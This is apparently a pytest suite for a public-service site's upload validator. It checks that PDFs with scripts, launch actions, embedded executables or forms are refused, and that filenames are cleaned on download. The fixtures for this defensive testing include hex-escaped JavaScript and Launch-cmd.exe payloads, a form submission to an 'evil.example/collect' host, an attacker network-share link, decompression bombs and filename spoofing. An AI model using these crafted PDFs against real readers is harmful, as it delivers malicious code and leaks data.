"""Uploaded files: a PDF is judged by what a reader would run, after the parser
decodes it, and a download never lets the uploader choose how it is opened."""

from __future__ import annotations

import io

import pytest
import sqlalchemy as sa
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app import unit_of_work
from app.extensions import db
from service_requests import uploads
from service_requests.models import Upload
from tests.demo_ids import AN
from tests.problems import assert_problem
from tests.service_requests import pdfs
from tests.service_requests.helpers import png

ACTIVE_VI = "Không chấp nhận tệp PDF chứa mã lệnh, hành động tự động hoặc tệp đính kèm."
MALFORMED_VI = "Tệp PDF bị hỏng hoặc không đọc được."
MALFORMED_EN = "The PDF file is damaged or cannot be read."

OPEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>"
WITH_ANNOT = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
    b" /Resources << >> /Annots [5 0 R] >>"
)


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>" % action


ACTIVE = {
    # The finding itself: hex-escaped names a byte search does not see.
    "hex-escaped JavaScript open action": pdfs.classic(
        pdfs.document(OPEN % b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")
    ),
    "hex-escaped Launch in a link": pdfs.classic(
        pdfs.document(
            pdfs.CATALOG,
            WITH_ANNOT,
            _link(b"<< /S /L#61unch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
        )
    ),
    "JavaScript open action in a FlateDecode object stream": pdfs.compressed(
        pdfs.document(
            OPEN % b"5 0 R", pdfs.PAGE, b"<< /S /JavaScript /JS (app.alert(1)) >>"
        ),
        {1, 5},
    ),
    "document JavaScript in the names tree, compressed": pdfs.compressed(
        pdfs.document(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>",
            pdfs.PAGE,
            b"<< /S /JavaScript /JS (this.exportDataObject()) >>",
            b"<< /Names [(init) 5 0 R] >>",
        ),
        {1, 5, 6},
    ),
    "JavaScript after a harmless GoTo (its /Next)": pdfs.classic(
        pdfs.document(
            OPEN
            % b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /J#61vaScript /J#53 (x) >> >>"
        )
    ),
    "embedded file, hex-escaped": pdfs.classic(
        pdfs.document(
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /Names << /Embedded#46iles << /Names [(hoa-don.exe) 5 0 R] >> >> >>",
            pdfs.PAGE,
            b"<< /Type /Filespec /F (hoa-don.exe) /#45F << /F 6 0 R >> >>",
            pdfs.stream(b"MZ\x90\x00", b" /Type /Embedded#46ile"),
        )
    ),
    "file attachment annotation in an object stream": pdfs.compressed(
        pdfs.document(
            pdfs.CATALOG,
            WITH_ANNOT,
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            pdfs.stream(b"MZ\x90\x00", b" /Type /EmbeddedFile"),
        ),
        {3, 5, 6},
    ),
    "XFA form, hex-escaped": pdfs.classic(
        pdfs.document(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /X#46A 5 0 R >> >>",
            pdfs.PAGE,
            pdfs.stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
        )
    ),
    "XFA form in an object stream": pdfs.compressed(
        pdfs.document(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>",
            pdfs.PAGE,
            b"<< /Fields [] /XFA [(template) 6 0 R] >>",
            pdfs.stream(b"<template/>"),
        ),
        {1, 5},
    ),
    "page /AA that submits the form when the page opens": pdfs.classic(
        pdfs.document(
            pdfs.CATALOG,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << >> /AA << /O << /S /SubmitForm"
            b" /F << /FS /URL /F (https://evil.example/collect) >> >> >> >>",
        )
    ),
    "form field /AA keystroke script in an object stream": pdfs.compressed(
        pdfs.document(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
            WITH_ANNOT,
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [0 0 90 20]"
            b" /P 3 0 R /AA << /K << /S /JavaScript /JS (event.rc = true) >> >> >>",
        ),
        {1, 5},
    ),
    "ImportData open action": pdfs.classic(
        pdfs.document(OPEN % b"<< /S /ImportData /F (du-lieu.fdf) >>")
    ),
    "GoToE open action": pdfs.classic(
        pdfs.document(OPEN % b"<< /S /GoToE /T << /R /C /N (a) >> >>")
    ),
    "GoToR to a network share": pdfs.classic(
        pdfs.document(
            pdfs.CATALOG,
            WITH_ANNOT,
            _link(
                b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"
            ),
        )
    ),
    "RichMedia annotation": pdfs.classic(
        pdfs.document(
            pdfs.CATALOG,
            WITH_ANNOT,
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",
        )
    ),
    "javascript: URI in a link": pdfs.classic(
        pdfs.document(
            pdfs.CATALOG,
            WITH_ANNOT,
            _link(b"<< /S /URI /URI (javascript:app.alert(1)) >>"),
        )
    ),
    "script in an object no cross-reference lists": pdfs.classic(
        pdfs.document(), (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)
    ),
    "script packed in an object stream, marked free": pdfs.compressed(
        pdfs.document(pdfs.CATALOG, pdfs.PAGE, b"<< /S /JavaScript /JS (x) >>"),
        {3, 5},
        frozenset({5}),
    ),
    "URI opened as soon as the file opens": pdfs.classic(
        pdfs.document(OPEN % b"<< /S /URI /URI (https://tracker.example/x) >>")
    ),
}


def _upload(
    shop,
    content: bytes,
    name: str = "don.pdf",
    language: str = "vi",
    **fields: str,
):
    file = FileStorage(
        io.BytesIO(content), filename=name, content_type="application/pdf"
    )
    boundary, body = encode_multipart({"file": file, **fields})
    return shop.client.post(
        "/api/v1/uploads",
        data=body,
        headers={**shop.as_citizen(AN), "Accept-Language": language},
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def _stored() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Upload)) or 0


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
def test_active_pdf_content_is_refused_after_the_parser_decodes_it(shop, content):
    before = _stored()
    response = _upload(shop, content)
    assert assert_problem(response, 422, "validation-failed")["errors"] == {
        "file": [ACTIVE_VI]
    }
    assert _stored() == before


def test_a_pdf_the_parser_cannot_read_is_refused_as_malformed(shop):
    before = _stored()
    garbage = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\n%%EOF\n"
    for language, message in (("vi", MALFORMED_VI), ("en", MALFORMED_EN)):
        response = _upload(shop, garbage, language=language)
        assert assert_problem(response, 422, "validation-failed")["errors"] == {
            "file": [message]
        }
    no_pages = pdfs.classic([b"<< /Type /Catalog >>"])
    assert assert_problem(_upload(shop, no_pages), 422, "validation-failed")[
        "errors"
    ] == {"file": [MALFORMED_VI]}
    assert _stored() == before


def test_a_pdf_with_too_many_hidden_objects_is_refused_unread(shop):
    hidden = tuple(b"<< /N %d >>" % n for n in range(300))
    response = _upload(shop, pdfs.classic(pdfs.document(), hidden), language="en")
    assert assert_problem(response, 422, "validation-failed")["errors"] == {
        "file": ["The PDF file is too complex to be checked."]
    }


def _inflating(*spaces: int) -> bytes:
    """A one-page PDF plus an object stream per size, each a few kilobytes that
    inflate to that many spaces around one object (an attacker's upload)."""
    head = b"999 0 "
    streams = [
        pdfs.stream(
            head + b"null" + b" " * size,
            b" /Type /ObjStm /N 1 /First %d" % len(head),
            deflate=True,
        )
        for size in spaces
    ]
    return pdfs.classic(pdfs.document(pdfs.CATALOG, pdfs.PAGE, *streams))


@pytest.mark.parametrize(
    "spaces",
    [pytest.param((9_000_000,), id="one-stream-over-8MB"),
     pytest.param((7_000_000,) * 5, id="streams-over-32MB-in-all")],
)  # fmt: skip
def test_object_streams_that_inflate_beyond_a_budget_are_refused(shop, spaces):
    before = _stored()
    crafted = _inflating(*spaces)
    assert len(crafted) < 200_000
    response = _upload(shop, crafted, language="en")
    assert assert_problem(response, 422, "validation-failed")["errors"] == {
        "file": ["The PDF file is too complex to be checked."]
    }
    assert _stored() == before


def test_object_streams_within_the_budget_are_read(shop):
    assert _upload(shop, _inflating(1_000_000, 1_000_000)).status_code == 201


def test_an_uploads_content_is_checked_before_it_queues_to_write(shop, monkeypatch):
    """A PDF's check can take a worker seconds: while it runs, the request holds no
    write lock that other writers would wait behind (with an Idempotency-Key too)."""
    holding: list[bool] = []
    real_check = uploads.check

    def check(filename, content):
        holding.append(bool(db.session().info.get(unit_of_work._WRITING)))
        return real_check(filename, content)

    monkeypatch.setattr(uploads, "check", check)
    assert _upload(shop, pdfs.classic(pdfs.document())).status_code == 201
    file = FileStorage(io.BytesIO(pdfs.classic(pdfs.document())), filename="a.pdf")
    boundary, body = encode_multipart({"file": file})
    keyed = shop.client.post(
        "/api/v1/uploads",
        data=body,
        headers={**shop.as_citizen(AN), "Idempotency-Key": "upload-once"},
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert keyed.status_code == 201
    assert holding == [False, False]


def test_a_password_protected_pdf_is_refused(shop):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdfs.classic(pdfs.document()))))
    writer.encrypt(user_password="bi-mat", owner_password="chu", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    response = _upload(shop, buffer.getvalue(), language="en")
    assert assert_problem(response, 422, "validation-failed")["errors"] == {
        "file": ["Password-protected PDF files cannot be checked and are refused."]
    }


def _fpdf() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Giay xac nhan", link="https://dichvucong.gov.vn/")
    pdf.ln()
    pdf.cell(text="Trang sau", link=pdf.add_link(page=1))
    pdf.set_display_mode("fullpage")
    return bytes(pdf.output())


def _owner_locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_fpdf())))
    writer.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


CLEAN = {
    "hand-written, cross-reference table": pdfs.classic(pdfs.document()),
    "hand-written, object stream": pdfs.compressed(pdfs.document(), {1, 2, 3}),
    "opens at page 1, links to a web page": pdfs.classic(
        pdfs.document(
            OPEN % b"<< /S /GoTo /D [3 0 R /FitH 842] >>",
            WITH_ANNOT,
            _link(b"<< /S /URI /URI (https://dichvucong.gov.vn/) >>"),
        )
    ),
    "fpdf2, with links and an open action": _fpdf(),
    "locked against editing, no password to open": _owner_locked(),
}


@pytest.mark.parametrize("content", CLEAN.values(), ids=CLEAN.keys())
def test_a_clean_pdf_is_accepted(shop, content):
    response = _upload(shop, content)
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["media_type"] == "application/pdf"


def test_a_part_the_upload_schema_does_not_declare_is_refused(shop):
    # Found by schemathesis: an extra form field rode along and was ignored.
    before = _stored()
    response = _upload(shop, CLEAN["hand-written, cross-reference table"], note="42")
    problem = assert_problem(response, 422, "validation-failed")
    assert problem["errors"] == {"note": ["Trường không được hỗ trợ."]}
    assert _stored() == before


def _download(shop, content: bytes, name: str):
    body = shop.business_body(AN)
    upload = _upload(shop, content, name=name)
    assert upload.status_code == 201, upload.get_json()
    body["documents"][1]["upload_id"] = upload.get_json()["id"]
    created = shop.client.post("/api/v1/dossiers", json=body, headers=shop.as_citizen())
    assert created.status_code == 201, created.get_json()
    dossier = created.get_json()
    document = dossier["documents"][1]["id"]
    return shop.client.get(
        f"/api/v1/dossiers/{dossier['id']}/documents/{document}",
        headers=shop.as_citizen(),
    )


def test_a_download_is_named_by_the_server_from_the_checked_type(shop):
    image = _download(shop, png(), "trang-lừa.html")
    assert image.status_code == 200
    assert image.mimetype == "image/png"
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    assert image.headers["Content-Disposition"] == (
        "attachment; filename=trang-lua.png; filename*=UTF-8''trang-l%E1%BB%ABa.png"
    )
    pdf = _download(shop, pdfs.classic(pdfs.document()), "x/y/đơn\u202egpj.exe")
    assert pdf.mimetype == "application/pdf"
    assert pdf.headers["Content-Disposition"] == (
        "attachment; filename=ongpj.pdf; filename*=UTF-8''%C4%91%C6%A1ngpj.pdf"
    )
    assert pdf.data.startswith(b"%PDF-")
    unnamed = _download(shop, png(), ".html")
    assert unnamed.headers["Content-Disposition"] == "attachment; filename=tai-lieu.png"


def test_an_upload_is_listed_under_its_safe_name(shop):
    response = _upload(shop, png(), name="chụp màn hình.svg")
    assert response.get_json()["filename"] == "chụp màn hình.png"


@pytest.mark.parametrize(
    ("given", "media_type", "name"),
    [
        ("giấy tờ.html", "image/jpeg", "giấy tờ.jpg"),
        ("C:\\Users\\an\\CCCD mặt trước.JPEG", "image/jpeg", "CCCD mặt trước.jpg"),
        ('bao "cao" <1>|?*:;%.pdf.exe', "application/pdf", "bao cao 1.pdf.pdf"),
        ("Nguyễn Văn A. CCCD", "application/pdf", "Nguyễn Văn A. CCCD.pdf"),
        ("ho\u200bso\u202e\x00\x1f.pdf", "application/pdf", "hoso.pdf"),
        ("...", "image/png", "tai-lieu.png"),
        (None, "image/png", "tai-lieu.png"),
    ],
)
def test_an_uploaders_name_keeps_only_a_clean_stem(given, media_type, name):
    assert uploads.display_name(given, media_type) == name


def test_a_citizen_uploads_at_most_the_hours_limit(app, shop, monkeypatch):
    monkeypatch.setitem(app.config, "UPLOAD_RATE_LIMIT", "2/hour")
    document = pdfs.classic(pdfs.document())
    answers = [_upload(shop, document, language="en") for _ in range(3)]
    assert [a.status_code for a in answers[:2]] == [201, 201]
    assert_problem(answers[2], 429, "rate-limited")
